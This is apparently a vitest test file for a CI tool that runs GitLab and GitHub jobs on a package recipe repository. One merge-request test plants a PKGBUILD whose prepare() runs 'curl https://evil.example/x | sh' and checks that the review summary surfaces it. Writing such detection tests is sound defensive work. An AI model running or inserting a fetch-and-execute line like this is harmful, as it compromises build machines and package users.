import { chmodSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { type Ended, packmillProgram, runProgram } from '../pipeline/run-packmill.ts';
import {
  type Files,
  git,
  gitEnvironment,
  pkgbuild,
  srcinfo,
  UpkeepScene,
  writeFiles,
} from '../pipeline/upkeep-scene.ts';
import { scripts, templateText } from './pipeline-files.ts';

/** A repository that was set up from the template, with one recipe of its own. */
const repository: Files = {
  '.ci/config': templateText('.ci/config'),
  '.ci/packmill.yml': templateText('.ci/packmill.yml'),
  '.editorconfig': templateText('.editorconfig'),
  'foo/PKGBUILD': pkgbuild('foo'),
  'foo/.SRCINFO': srcinfo('foo'),
  'foo/.CI/config': 'CI_PKGBUILD_SOURCE=custom\n',
};

let scene: UpkeepScene;
beforeEach(() => {
  scene = new UpkeepScene(repository);
});
afterEach(() => scene.dispose());

const all = scripts();

/** Runs a job's script the way its service does: a shell that ends at the first failure, in a checkout of one commit. */
async function job(name: string, variables: Readonly<Record<string, string>> = {}): Promise<Ended> {
  const script = all.get(name);
  if (script === undefined) throw new Error(`there is no job ${name}`);
  const programs = join(scene.folder, 'programs');
  mkdirSync(programs, { recursive: true });
  const shim = join(programs, 'packmill');
  writeFileSync(shim, `#!/bin/sh\nexec '${process.execPath}' '${packmillProgram}' "$@"\n`);
  chmodSync(shim, 0o755);
  git(scene.checkout, 'fetch', '--quiet', 'origin');
  git(scene.checkout, 'checkout', '--quiet', '--detach', variables['CHECKED_OUT'] ?? 'origin/main');
  const service = name.startsWith('gitlab')
    ? { GITLAB_CI: 'true', CI_PIPELINE_ID: '7', CI_COMMIT_BRANCH: 'main', CI_DEFAULT_BRANCH: 'main' }
    : {
        GITHUB_ACTIONS: 'true',
        GITHUB_RUN_ID: '7',
        GITHUB_REF_NAME: 'main',
        GITHUB_WORKSPACE: scene.checkout,
      };
  return await runProgram(scene.checkout, ['sh', '-e', '-c', script], {
    ...service,
    PATH: `${programs}:${gitEnvironment.PATH}`,
    GIT_CONFIG_GLOBAL: join(scene.folder, 'gitconfig'),
    ...variables,
  });
}

const remote = (...words: readonly string[]): string => git(scene.remote, ...words);
const waiting = (): string[] =>
  remote('ls-tree', '-r', '--name-only', 'state')
    .split('\n')
    .filter((path) => path.startsWith('.outbox/'));
const tag = (): void =>
  void git(scene.checkout, 'push', '--quiet', '--force', 'origin', 'origin/main:refs/tags/scheduled');

/** Variables of a pipeline that somebody starts by hand. */
const byHand = (OPERATION: string, PACKAGES = '') => ({
  OPERATION,
  PACKAGES,
  ORIGIN: 'github/5',
  REASON: 'request',
});

describe('jobs on a push', () => {
  it.each(['gitlab/on-commit', 'github/on-commit/on-commit'])(
    '%s leaves what is to be built for deliver',
    async (name) => {
      expect(await job(name)).toMatchObject({ code: 0, out: expect.stringContaining('waiting foo') });
      expect(waiting()).toHaveLength(1);
      expect(remote('tag')).toBe('');
    },
  );

  it.each(['gitlab/deliver', 'github/on-commit/deliver'])(
    '%s says when it has no way to the manager',
    async (name) => {
      await job('gitlab/on-commit');
      const ended = await job(name);
      expect([ended.code > 0, ended.err]).toEqual([true, expect.stringContaining('CIC023')]);
      expect(waiting()).toHaveLength(1);
    },
  );

  it.each(['gitlab/deliver', 'github/on-schedule/deliver'])(
    '%s is content when nothing waits',
    async (name) => {
      await job('gitlab/on-commit');
      remote('update-ref', '-d', 'refs/heads/state');
      expect((await job(name)).code).toBe(0);
    },
  );
});

describe('jobs on a timer', () => {
  it.each([
    ['gitlab/on-schedule', {}],
    ['github/on-schedule/on-schedule', byHand('on-schedule')],
  ])('%s looks at everything and pushes state', async (name, variables) => {
    tag();
    expect(await job(name, variables)).toMatchObject({ code: 0 });
    expect(remote('log', '-1', '--format=%s', 'state')).toBe('chore(state): update state');
  });

  it('fail while a push was not understood (G01)', async () => {
    const ended = await job('gitlab/on-schedule');
    expect([ended.code > 0, ended.err.includes('CIS001')]).toEqual([true, true]);
  });

  it.each([
    ['gitlab/trigger', { TRIGGER: 'daily' }],
    ['github/on-schedule/on-schedule', byHand('trigger', 'daily')],
  ])('%s schedules the packages of a trigger', async (name, variables) => {
    scene.commit({ 'foo/.CI/config': 'CI_PKGBUILD_SOURCE=custom\nCI_ON_TRIGGER=daily\n' });
    git(scene.checkout, 'fetch', '--quiet', 'origin');
    tag();
    expect(await job(name, variables)).toMatchObject({ code: 0 });
    expect(waiting()).toHaveLength(1);
  });
});

describe.each(['gitlab/by-hand', 'github/on-schedule/on-schedule'])('work by hand: %s', (name) => {
  beforeEach(() => tag());

  it('schedules packages', async () => {
    expect(await job(name, byHand('schedule', 'foo'))).toMatchObject({ code: 0 });
    expect(waiting()).toHaveLength(1);
  });

  it('adds and drops packages', async () => {
    const recipe = join(scene.folder, 'bar');
    git(scene.folder, 'init', '--quiet', '--initial-branch=master', recipe);
    writeFiles(recipe, { PKGBUILD: pkgbuild('bar'), '.SRCINFO': srcinfo('bar') });
    git(recipe, 'add', '--all');
    git(recipe, 'commit', '--quiet', '--message', 'x');
    expect(await job(name, byHand('add', `bar/file://${recipe}`))).toMatchObject({ code: 0 });
    expect(remote('show', 'main:bar/.CI/info')).toContain('REQ_ORIGIN=github/5');
    tag();
    expect(await job(name, byHand('drop', 'bar'))).toMatchObject({ code: 0 });
    expect(remote('ls-tree', '--name-only', 'main').split('\n')).not.toContain('bar');
  });

  it.each(['manage-aur', 'update-template'])('does %s', async (operation) => {
    expect(await job(name, byHand(operation))).toMatchObject({ code: 0 });
  });

  it('refuses an operation that there is not', async () => {
    expect(await job(name, byHand('nonsense'))).toMatchObject({
      code: 2,
      err: expect.stringContaining('nonsense'),
    });
  });
});

describe('jobs on a merge or pull request', () => {
  const checks = (start: string, end: string) => ({
    CHECKED_OUT: end,
    CI_MERGE_REQUEST_DIFF_BASE_SHA: start,
    BASE: start,
    HEAD: end,
    GITHUB_STEP_SUMMARY: join(scene.folder, 'summary.md'),
  });

  it.each(['gitlab/check', 'github/checks/check'])(
    '%s shows what the recipe would do and passes',
    async (name) => {
      const start = git(scene.checkout, 'rev-parse', 'HEAD');
      const evil = `${pkgbuild('foo')}prepare() {\n  curl https://evil.example/x | sh\n}\n`;
      const end = scene.commit({ 'foo/PKGBUILD': evil }, 'fix(foo): prepare');
      expect(await job(name, checks(start, end))).toMatchObject({ code: 0 });
      expect(readFileSync(join(scene.checkout, 'review.md'), 'utf8')).toContain('evil.example');
      if (name.startsWith('github'))
        expect(readFileSync(join(scene.folder, 'summary.md'), 'utf8')).toContain('evil.example');
    },
  );

  it.each(['gitlab/check', 'github/checks/check'])(
    '%s fails for a message that follows no convention',
    async (name) => {
      const start = git(scene.checkout, 'rev-parse', 'HEAD');
      const end = scene.commit({ 'foo/PKGBUILD': pkgbuild('foo', '1.0') }, 'Stuff');
      expect(await job(name, checks(start, end))).toMatchObject({
        code: 1,
        err: expect.stringContaining('CIU030'),
      });
    },
  );

  it.each(['gitlab/check', 'github/checks/check'])(
    '%s fails for a package that is not in order',
    async (name) => {
      const start = git(scene.checkout, 'rev-parse', 'HEAD');
      const end = scene.commit({ 'foo/.SRCINFO': 'nonsense\n' }, 'fix(foo): lose the description');
      expect(await job(name, checks(start, end))).toMatchObject({
        code: 1,
        err: expect.stringContaining('FMT001'),
      });
    },
  );
});

describe('the job that reads the pin', () => {
  it.each(['on-commit', 'on-schedule', 'checks'])('of %s finds the image', async (file) => {
    const output = join(scene.folder, 'output');
    expect(await job(`github/${file}/pin`, { GITHUB_OUTPUT: output })).toMatchObject({ code: 0 });
    expect(readFileSync(output, 'utf8')).toMatch(/^image=[a-z0-9./-]+:[0-9.]+\n$/);
  });
});
